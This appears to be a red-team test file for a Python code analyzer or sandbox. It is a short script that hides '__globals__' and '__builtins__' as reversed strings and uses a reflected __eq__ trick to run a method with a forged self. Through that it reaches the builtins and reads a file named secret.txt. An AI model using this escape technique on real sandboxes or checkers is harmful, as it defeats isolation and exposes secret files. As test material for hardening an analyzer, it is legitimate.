# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: `Reader == spy`: type.__eq__ gives NotImplemented, so Python calls the reflected spy.__eq__(Reader)
# with the class. A class name as a comparison operand is not a "class used as a value"
# (objects._classes_as_values counts Tag.VALUE only), so k.fetch on a parameter stays "bound": Reader.fetch runs
# with a namedtuple as self, and its class-constant self.FIELDS is a run-time ["__globals__"].
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


class Spy:
    def __init__(self):
        self.got = []

    def __eq__(self, other):
        self.got.append(other)
        return True


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    spy = Spy()
    Reader == spy
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(spy.got[0], box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
